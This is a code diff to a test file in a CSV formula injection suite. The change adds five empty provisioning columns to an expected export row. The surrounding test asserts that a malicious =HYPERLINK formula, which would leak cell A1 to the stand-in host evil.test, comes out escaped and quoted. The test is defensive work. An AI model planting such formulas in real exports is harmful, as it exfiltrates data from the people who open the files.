@@ -103,7 +103,19 @@ describe('CSV formula injection', () => {
     const before = await snapshot();
     const exported = await t.http.get(`${seats()}/export`).set(bearer(token)).expect(200);
     const rows = expectNoFormulaCell(exported.text);
-    expect(rows).toContainEqual(['crm-10', String(sdkAppId), 'a10@corp.test', `'${HYPERLINK}`, 'enabled']);
+    // the provisioning columns (provision, staffNumber, phone, role, skillGroups) are empty for these
+    expect(rows).toContainEqual([
+      'crm-10',
+      String(sdkAppId),
+      'a10@corp.test',
+      `'${HYPERLINK}`,
+      'enabled',
+      '',
+      '',
+      '',
+      '',
+      '',
+    ]);
     // quoted as a whole, so no spreadsheet splits it or reads past the protective quote
     expect(exported.text).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""click"")"`);
 
